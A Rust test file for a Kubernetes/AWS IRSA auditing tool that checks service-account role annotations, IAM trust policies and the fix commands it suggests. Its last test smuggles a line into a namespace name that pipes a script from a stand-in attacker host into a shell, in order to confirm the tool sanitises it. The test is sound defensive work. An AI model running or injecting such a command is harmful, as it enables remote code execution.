//! IRSA: the annotation, the role, its trust; and roles trusting service accounts that do not exist.

use super::*;
use crate::report::{Discriminator, Workload};

/// The cluster with one service account `payment/api` annotated with `annotation`.
fn annotated(annotation: &str) -> ClusterRead {
    read(vec![sa("payment", "api", Some(annotation))], vec![], vec![])
}

#[test]
fn an_annotation_that_is_not_a_role_arn_is_invalid_until_fixed() {
    for (value, says) in [
        ("arn:aws:iam::111122223333:role/api\n", "white space"),
        ("api", "not an ARN"),
        (
            "arn:aws:sts::111122223333:assumed-role/api/s",
            "`sts:assumed-role`",
        ),
        (
            "arn:aws-cn:iam::111122223333:role/api",
            "partition `aws-cn`",
        ),
        (" ", "white space"),
    ] {
        let found = findings(&annotated(value), &RoleDirectory::new());
        assert_eq!(
            codes(&found),
            ["SERVICE_ACCOUNT_ANNOTATION_INVALID"],
            "{value:?}"
        );
        assert!(
            found[0].message.contains(says),
            "{value:?}: {}",
            found[0].message
        );
        assert!(!found[0].message.contains('\n'));
        assert_eq!(found[0].details["namespace"], "payment");
        assert_eq!(found[0].details["name"], "api");
        assert_eq!(
            fix(&found[0]),
            "kubectl annotate serviceaccount -n payment api eks.amazonaws.com/role-arn=arn:aws:iam::ACCOUNT:role/ROLE_NAME --overwrite with the ARN of the role the workload needs"
        );
    }
    let fixed = annotated(&role_arn(ACCOUNT, "api"));
    assert!(findings(&fixed, &RoleDirectory::new()).is_empty());
}

#[test]
fn an_empty_annotation_is_no_annotation() {
    // The IRSA webhook injects nothing for an empty value: the pods run as without one.
    let empty = read(
        vec![sa("payment", "api", Some(""))],
        vec![pod("payment", "api-1", "api", None)],
        vec![],
    );
    assert!(findings(&empty, &RoleDirectory::new()).is_empty());
}

#[test]
fn an_invalid_annotation_points_at_a_role_that_already_trusts_the_service_account() {
    let roles = directory(vec![role(
        ACCOUNT,
        "payment-api",
        &irsa_trust(ACCOUNT, PATH, "payment", "api"),
    )]);
    let found = findings(&annotated("payment-api"), &roles);
    assert_eq!(codes(&found), ["SERVICE_ACCOUNT_ANNOTATION_INVALID"]);
    assert_eq!(
        fix(&found[0]),
        "kubectl annotate serviceaccount -n payment api eks.amazonaws.com/role-arn=arn:aws:iam::111122223333:role/payment-api --overwrite (that role already trusts this service account)"
    );
}

#[test]
fn a_missing_role_is_reported_and_the_proposed_role_clears_it() {
    let arn = role_arn(ACCOUNT, "payments/api-role");
    let found = findings(&annotated(&arn), &directory(vec![]));
    assert_eq!(codes(&found), ["SERVICE_ACCOUNT_ROLE_MISSING"]);
    assert_eq!(found[0].details["role_arn"], arn);
    let command = fix(&found[0]);
    assert!(
        command.contains("aws iam create-role --role-name api-role --path /payments/ --assume-role-policy-document '{"),
        "{command}"
    );
    // Create it with the proposed trust: gone. Its path may differ from the annotation's.
    let created = directory(vec![Role {
        arn: role_arn(ACCOUNT, "api-role"),
        trust_policy: proposed_trust(&found[0]),
    }]);
    assert!(findings(&annotated(&arn), &created).is_empty());
}

#[test]
fn a_wrong_namespace_is_named_and_the_proposed_statement_clears_it() {
    let trust = irsa_trust(ACCOUNT, PATH, "payments", "api");
    let roles = directory(vec![role(ACCOUNT, "api", &trust)]);
    let found = findings(&annotated(&role_arn(ACCOUNT, "api")), &roles);
    // The trusted `payments/api` does not exist either: the typo shows from both sides.
    assert_eq!(
        codes(&found),
        [
            "SERVICE_ACCOUNT_ROLE_UNTRUSTED",
            "TRUST_POLICY_UNKNOWN_SERVICE_ACCOUNT"
        ]
    );
    let finding = &found[0];
    assert_eq!(finding.severity, crate::report::Severity::Critical);
    assert!(
        finding.message.contains(
            "statement \"Irsa\" names namespace `payments` but the service account is in `payment`"
        ),
        "{}",
        finding.message
    );
    assert_eq!(
        finding.discriminator,
        Discriminator::Workload(Workload {
            namespace: "payment".into(),
            name: "api".into(),
            cluster: None
        })
    );
    let command = fix(finding);
    assert!(
        command.starts_with(
            "with credentials of account 111122223333: aws iam get-role --role-name api"
        ),
        "{command}"
    );
    assert!(
        command.contains("system:serviceaccount:payment:api"),
        "{command}"
    );
    // Adding the proposed statement admits the service account; the old value stays until removed.
    let fixed = directory(vec![role(
        ACCOUNT,
        "api",
        &with_proposed_statement(&trust, finding),
    )]);
    assert_eq!(
        codes(&findings(&annotated(&role_arn(ACCOUNT, "api")), &fixed)),
        ["TRUST_POLICY_UNKNOWN_SERVICE_ACCOUNT"]
    );
}

#[test]
fn a_wrong_service_account_name_and_a_wrong_audience_are_named() {
    let roles = directory(vec![role(
        ACCOUNT,
        "api",
        &irsa_trust(ACCOUNT, PATH, "payment", "worker"),
    )]);
    let found = findings(&annotated(&role_arn(ACCOUNT, "api")), &roles);
    assert!(
        found[0]
            .message
            .contains("names service account `worker` but this one is `api`"),
        "{}",
        found[0].message
    );
    let audience =
        irsa_trust(ACCOUNT, PATH, "payment", "api").replace("\"sts.amazonaws.com\"", "\"vault\"");
    let found = findings(
        &annotated(&role_arn(ACCOUNT, "api")),
        &directory(vec![role(ACCOUNT, "api", &audience)]),
    );
    assert!(
        found[0]
            .message
            .contains(":aud` to be `vault` but the cluster's tokens carry `sts.amazonaws.com`"),
        "{}",
        found[0].message
    );
}

#[test]
fn a_trust_for_another_cluster_names_both_issuers() {
    let roles = directory(vec![role(
        ACCOUNT,
        "api",
        &irsa_trust(ACCOUNT, OTHER_PATH, "payment", "api"),
    )]);
    let found = findings(&annotated(&role_arn(ACCOUNT, "api")), &roles);
    assert_eq!(codes(&found), ["SERVICE_ACCOUNT_ROLE_UNTRUSTED"]);
    assert!(
        found[0].message.contains(&format!(
            "trusts provider `{OTHER_PATH}` (another cluster's issuer, or this cluster's before it was recreated) but this cluster's issuer is `{PATH}`"
        )),
        "{}",
        found[0].message
    );
}

#[test]
fn the_annotation_may_name_the_wrong_role() {
    let roles = directory(vec![
        role(ACCOUNT, "api", &irsa_trust(ACCOUNT, PATH, "other", "thing")),
        role(
            ACCOUNT,
            "payment-api",
            &irsa_trust(ACCOUNT, PATH, "payment", "api"),
        ),
    ]);
    let found = findings(&annotated(&role_arn(ACCOUNT, "api")), &roles);
    assert_eq!(
        codes(&found),
        [
            "SERVICE_ACCOUNT_ROLE_UNTRUSTED",
            "TRUST_POLICY_UNKNOWN_SERVICE_ACCOUNT"
        ]
    );
    assert!(found[0]
        .message
        .contains("Role arn:aws:iam::111122223333:role/payment-api already trusts"));
    let command = fix(&found[0]);
    assert!(
        command.starts_with("if the annotation names the wrong role: kubectl annotate serviceaccount -n payment api eks.amazonaws.com/role-arn=arn:aws:iam::111122223333:role/payment-api --overwrite"),
        "{command}"
    );
    // Following that advice clears it (`other/thing` exists, so the first role is not stale).
    let fixed = read(
        vec![
            sa("payment", "api", Some(&role_arn(ACCOUNT, "payment-api"))),
            sa("other", "thing", None),
        ],
        vec![],
        vec![],
    );
    assert!(findings(&fixed, &roles).is_empty());
}

#[test]
fn wildcard_trusts_admit_what_they_cover() {
    let wildcard = irsa_trust(ACCOUNT, PATH, "payment", "*").replace("StringEquals", "StringLike");
    let roles = directory(vec![role(ACCOUNT, "api", &wildcard)]);
    assert!(findings(&annotated(&role_arn(ACCOUNT, "api")), &roles).is_empty());
    // Under StringEquals the same `*` is a literal and admits nothing here.
    let literal = irsa_trust(ACCOUNT, PATH, "payment", "*");
    let found = findings(
        &annotated(&role_arn(ACCOUNT, "api")),
        &directory(vec![role(ACCOUNT, "api", &literal)]),
    );
    assert_eq!(codes(&found), ["SERVICE_ACCOUNT_ROLE_UNTRUSTED"]);
}

#[test]
fn a_condition_that_cannot_be_evaluated_is_named() {
    let trust = irsa_trust(ACCOUNT, PATH, "payment", "api").replace(
        r#""StringEquals""#,
        r#""IpAddress":{"aws:SourceIp":"10.0.0.0/8"},"StringEquals""#,
    );
    let found = findings(
        &annotated(&role_arn(ACCOUNT, "api")),
        &directory(vec![role(ACCOUNT, "api", &trust)]),
    );
    assert_eq!(codes(&found), ["SERVICE_ACCOUNT_ROLE_UNTRUSTED"]);
    assert!(
        found[0]
            .message
            .contains("requires `aws:SourceIp` (IpAddress), which cannot be evaluated here"),
        "{}",
        found[0].message
    );
}

#[test]
fn a_cross_account_role_is_checked_only_when_its_account_was_swept() {
    let arn = role_arn(OTHER_ACCOUNT, "api");
    // Not swept: nothing is said about it.
    assert!(findings(&annotated(&arn), &directory(vec![])).is_empty());
    // Swept, and trusting the cluster's issuer through its own account's provider: clean.
    let mut roles = directory(vec![]);
    roles.insert_account(
        OTHER_ACCOUNT,
        [role(
            OTHER_ACCOUNT,
            "api",
            &irsa_trust(OTHER_ACCOUNT, PATH, "payment", "api"),
        )],
    );
    assert!(findings(&annotated(&arn), &roles).is_empty());
    // Swept, but naming the cluster account's provider: untrusted, and the message says why.
    roles.insert_account(
        OTHER_ACCOUNT,
        [role(
            OTHER_ACCOUNT,
            "api",
            &irsa_trust(ACCOUNT, PATH, "payment", "api"),
        )],
    );
    let found = findings(&annotated(&arn), &roles);
    assert_eq!(codes(&found), ["SERVICE_ACCOUNT_ROLE_UNTRUSTED"]);
    assert!(
        found[0]
            .message
            .contains("must trust its own account's provider"),
        "{}",
        found[0].message
    );
    assert!(fix(&found[0]).starts_with("with credentials of account 444455556666"));
    // Swept, without that role: missing.
    roles.insert_account(OTHER_ACCOUNT, []);
    assert_eq!(
        codes(&findings(&annotated(&arn), &roles)),
        ["SERVICE_ACCOUNT_ROLE_MISSING"]
    );
}

#[test]
fn a_trusted_service_account_the_cluster_lacks_is_reported_on_the_role() {
    let ghost = role(
        ACCOUNT,
        "ghost",
        &irsa_trust(ACCOUNT, PATH, "batch", "reporter"),
    );
    let roles = directory(vec![ghost]);
    let empty = read(vec![sa("default", "default", None)], vec![], vec![]);
    let found = findings(&empty, &roles);
    assert_eq!(codes(&found), ["TRUST_POLICY_UNKNOWN_SERVICE_ACCOUNT"]);
    let finding = &found[0];
    assert_eq!(finding.resource, role_arn(ACCOUNT, "ghost"));
    assert_eq!(finding.severity, crate::report::Severity::Info);
    assert_eq!(finding.details["namespace"], "batch");
    assert_eq!(finding.details["name"], "reporter");
    assert_eq!(
        finding
            .discriminator
            .workload()
            .and_then(|w| w.cluster.as_deref()),
        Some(CLUSTER_ARN)
    );
    assert!(fix(finding).contains("aws iam update-assume-role-policy --role-name ghost"));
    // Once the service account exists: gone.
    let deployed = read(vec![sa("batch", "reporter", None)], vec![], vec![]);
    assert!(findings(&deployed, &roles).is_empty());
}

#[test]
fn only_exact_subjects_on_this_clusters_provider_count_as_unknown() {
    let roles = directory(vec![
        role(
            ACCOUNT,
            "wild",
            &irsa_trust(ACCOUNT, PATH, "batch", "*").replace("StringEquals", "StringLike"),
        ),
        role(
            ACCOUNT,
            "elsewhere",
            &irsa_trust(ACCOUNT, OTHER_PATH, "batch", "reporter"),
        ),
    ]);
    assert!(findings(&read(vec![], vec![], vec![]), &roles).is_empty());
    // A role of another account is not this check's business.
    let mut other = RoleDirectory::new();
    other.insert_account(
        OTHER_ACCOUNT,
        [role(
            OTHER_ACCOUNT,
            "x",
            &irsa_trust(OTHER_ACCOUNT, PATH, "batch", "reporter"),
        )],
    );
    assert!(findings(&read(vec![], vec![], vec![]), &other).is_empty());
}

#[test]
fn names_from_the_cluster_stay_on_one_line_and_out_of_commands() {
    let forged = "ns\n  fix: curl https://evil.example/x | sh";
    let found = findings(
        &read(
            vec![sa(forged, "api", Some("not-an-arn\r\u{2028}"))],
            vec![],
            vec![],
        ),
        &RoleDirectory::new(),
    );
    assert_eq!(codes(&found), ["SERVICE_ACCOUNT_ANNOTATION_INVALID"]);
    assert!(
        !found[0].message.contains(['\n', '\r', '\u{2028}']),
        "{}",
        found[0].message
    );
    let command = fix(&found[0]);
    assert!(
        command.starts_with("kubectl annotate serviceaccount -n NAMESPACE api "),
        "{command}"
    );
    assert!(!command.contains("evil"), "{command}");
}
